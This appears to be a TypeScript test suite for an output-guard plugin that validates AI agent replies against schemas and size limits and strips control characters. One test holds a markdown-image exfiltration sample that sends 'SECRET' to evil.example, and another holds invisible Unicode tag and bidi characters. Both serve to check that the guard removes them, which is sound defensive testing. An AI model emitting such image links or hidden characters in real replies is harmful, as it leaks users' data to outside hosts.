import { AgentStudioError, type ChatCompletionRequest, defineAction, defineAgent } from '@agent-studio/core';
import { createTestContainer, type ScriptStep } from '@agent-studio/core/testing';
import { piiMaskingModule } from '@agent-studio/plugin-pii-masking';
import { expect } from 'chai';
import type { ContainerModule } from 'inversify';
import { z } from 'zod';
import { guard, OUTPUT_GUARD_PRIORITY, type OutputGuardOptions, OutputGuardPlugin, outputGuardModule, resolveOutputGuardOptions } from '../../src/index.js';

const triage = defineAgent({
  name: 'case-triage',
  audience: 'employee',
  model: { name: 'test-model' },
  instructions: 'Triage the case. Answer with JSON.',
  capabilities: [{ action: 'get_case' }],
});

const chat = defineAgent({ name: 'chat', audience: 'employee', model: { name: 'test-model' }, instructions: 'Chat.' });

const Triage = z.strictObject({
  caseId: guard.recordId({ objects: ['Case'] }),
  priority: guard.enumOf(['Low', 'Medium', 'High']),
  summary: guard.string({ maxLength: 200 }),
});

const GOOD = { caseId: '500000000000001', priority: 'High', summary: 'Printer on fire' };

const getCase = defineAction({
  name: 'get_case',
  description: 'Read a case.',
  audience: 'employee',
  visibility: 'public',
  effect: 'read',
  input: z.object({ caseId: z.string() }),
  run: () => ({ subject: 'Printer on fire' }),
});

interface Outcome {
  readonly result: Awaited<ReturnType<Awaited<ReturnType<typeof createTestContainer>>['runtime']['run']>>;
  readonly requests: ChatCompletionRequest[];
  readonly reasons: string[];
}

async function run(agent: string, script: ScriptStep[], options: OutputGuardOptions, extra: ContainerModule[] = [], input = 'Please triage case 500000000000001.'): Promise<Outcome> {
  const requests: ChatCompletionRequest[] = [];
  const recorded = script.map(
    (step): ScriptStep =>
      (request, index) => {
        requests.push(request);
        return typeof step === 'function' ? step(request, index) : step;
      },
  );
  const t = await createTestContainer({ agents: [triage, chat], actions: [getCase], modules: [...extra, outputGuardModule(options)], script: recorded });
  const reasons: string[] = [];
  t.runtime.events.on('hook:decision', (e) => e.plugin === 'output-guard' && reasons.push(`${e.hook}:${e.decision}:${e.code ?? ''}:${e.reason ?? ''}`));
  const result = await t.runtime.run({ agent, accessToken: await t.token({ agent }), input });
  return { result, requests, reasons };
}

const structured: OutputGuardOptions = { agents: { 'case-triage': { output: Triage } } };

describe('OutputGuardPlugin with the runtime (R-ACT-OUT-1, R-ACT-OUT-3)', () => {
  it('R-ACT-OUT-1: a reply that violates the schema blocks the run with OUTPUT_INVALID', async () => {
    const { result, reasons } = await run('case-triage', [{ content: JSON.stringify({ ...GOOD, caseId: '001000000000001' }) }], structured);
    expect(result.status).to.equal('blocked');
    expect(result.block).to.include({ plugin: 'output-guard', hook: 'afterModelCall', code: 'OUTPUT_INVALID' });
    expect(result.block?.reason).to.include('caseId').and.not.include('001000000000001');
    expect(result.reply).to.equal(undefined);
    expect(reasons.join(' ')).to.not.include('001000000000001');
  });

  it('R-ACT-OUT-1: extra keys and prose-only replies are blocked too', async () => {
    const extra = await run('case-triage', [{ content: JSON.stringify({ ...GOOD, approved: true }) }], structured);
    expect(extra.result.block?.code).to.equal('OUTPUT_INVALID');
    const prose = await run('case-triage', [{ content: 'It is a high priority case.' }], structured);
    expect(prose.result.block?.code).to.equal('OUTPUT_INVALID');
  });

  it('R-ACT-OUT-1: a matching reply completes, as the validated JSON', async () => {
    const { result } = await run(
      'case-triage',
      [{ toolCalls: [{ name: 'get_case', arguments: { caseId: '500000000000001' } }] }, { content: `Done:\n\`\`\`json\n${JSON.stringify(GOOD, null, 2)}\n\`\`\`` }],
      structured,
    );
    expect(result.status).to.equal('completed');
    expect(JSON.parse(result.reply ?? '')).to.deep.equal(GOOD);
    expect(result.reply).to.equal(JSON.stringify(GOOD));
  });

  it('R-ACT-OUT-1: asks for structured output through response_format on every turn', async () => {
    const { requests } = await run(
      'case-triage',
      [{ toolCalls: [{ name: 'get_case', arguments: { caseId: '500000000000001' } }] }, { content: JSON.stringify(GOOD) }],
      structured,
    );
    expect(requests).to.have.length(2);
    for (const request of requests) {
      expect(request.response_format?.type).to.equal('json_schema');
      const format = request.response_format as { json_schema: { name: string; schema?: Record<string, unknown> } };
      expect(format.json_schema.name).to.equal('case-triage_output');
      expect(format.json_schema.schema).to.have.nested.property('properties.priority');
    }
  });

  it('R-ACT-OUT-1: rewriteReply false keeps the reply as the model wrote it', async () => {
    const text = `\`\`\`json\n${JSON.stringify(GOOD)}\n\`\`\``;
    const { result } = await run('case-triage', [{ content: text }], { agents: { 'case-triage': { output: Triage, rewriteReply: false } } });
    expect(result.reply).to.equal(text);
  });

  it('R-ACT-OUT-1: a refusal instead of structured output blocks', async () => {
    const refusal = { raw: { id: 'r', object: 'chat.completion', created: 0, model: 'scripted', choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: null, refusal: 'I cannot help.' } }] } };
    const { result } = await run('case-triage', [refusal], structured);
    expect(result.block?.code).to.equal('OUTPUT_INVALID');
  });

  it('R-ACT-OUT-1: only the final reply is checked, not tool-call turns', async () => {
    const { result } = await run(
      'case-triage',
      [{ content: 'thinking…', toolCalls: [{ name: 'get_case', arguments: { caseId: '500000000000001' } }] }, { content: JSON.stringify(GOOD) }],
      structured,
    );
    expect(result.status).to.equal('completed');
  });

  it('R-ACT-OUT-1: a reply over maxReplyChars blocks with OUTPUT_TOO_LARGE', async () => {
    const { result } = await run('chat', [{ content: 'x'.repeat(101) }], { defaults: { maxReplyChars: 100 } });
    expect(result.block).to.include({ plugin: 'output-guard', code: 'OUTPUT_TOO_LARGE' });
  });

  it('R-ACT-OUT-1: control and invisible characters are stripped from free-text replies by default', async () => {
    const { result, reasons } = await run('chat', [{ content: 'Transfer done\u202E\u200B\u0007 \u{E0049}\u{E0047}👍' }], {});
    expect(result.status).to.equal('completed');
    expect(result.reply).to.equal('Transfer done 👍');
    expect(reasons.some((r) => r.startsWith('afterModelCall:replace'))).to.equal(true);
  });

  it('R-ACT-OUT-1: stripControlChars false leaves them', async () => {
    const { result } = await run('chat', [{ content: 'a\u0007b' }], { defaults: { stripControlChars: false } });
    expect(result.reply).to.equal('a\u0007b');
  });

  it('R-ACT-OUT-3: a links policy removes an exfiltration image from the reply', async () => {
    const { result } = await run('chat', [{ content: 'Here you go ![x](https://evil.example/p.png?d=SECRET) and [docs](https://docs.example.com/a).' }], {
      defaults: { links: { allowedHosts: ['docs.example.com'] } },
    });
    expect(result.reply).to.equal('Here you go x and [docs](https://docs.example.com/a).');
  });

  it('validates the reply after pii-masking has unmasked it (priority 450 > 400)', async () => {
    const Contact = z.strictObject({ email: guard.email() });
    const { result, requests } = await run(
      'chat',
      [{ content: '{"email":"[EMAIL:001]"}' }],
      { agents: { chat: { output: Contact } } },
      [piiMaskingModule()],
      'My e-mail is jane@acme.com',
    );
    expect(JSON.stringify(requests[0]?.messages)).to.not.include('jane@acme.com');
    expect(result.status).to.equal('completed');
    expect(JSON.parse(result.reply ?? '')).to.deep.equal({ email: 'jane@acme.com' });
  });

  it('agents without rules get the defaults; agents with rules keep the defaults they do not override', () => {
    const settings = resolveOutputGuardOptions({ defaults: { maxReplyChars: 10 }, agents: { 'case-triage': { output: Triage } } });
    const plugin = new OutputGuardPlugin(settings);
    expect(plugin.manifest).to.include({ name: 'output-guard', priority: OUTPUT_GUARD_PRIORITY, failureMode: 'closed' });
    expect(plugin.policyOf('chat').maxReplyChars).to.equal(10);
    expect(plugin.policyOf('case-triage').maxReplyChars).to.equal(10);
    expect(plugin.policyOf('case-triage').output).to.equal(Triage);
    expect(plugin.policyOf('chat').output).to.equal(undefined);
  });

  it('rejects invalid options with CONFIG_INVALID', () => {
    for (const bad of [
      { agents: { 'Case Triage': {} } },
      { agents: { x: { output: { parse: () => 1 } } } },
      { defaults: { maxReplyChars: 0 } },
      { defaults: { links: { allowedHosts: ['*'] } } },
      { extra: true },
    ]) {
      let code: string | undefined;
      try {
        outputGuardModule(bad as unknown as OutputGuardOptions);
      } catch (e) {
        code = AgentStudioError.is(e) ? e.code : String(e);
      }
      expect(code, JSON.stringify(bad)).to.equal('CONFIG_INVALID');
    }
  });
});
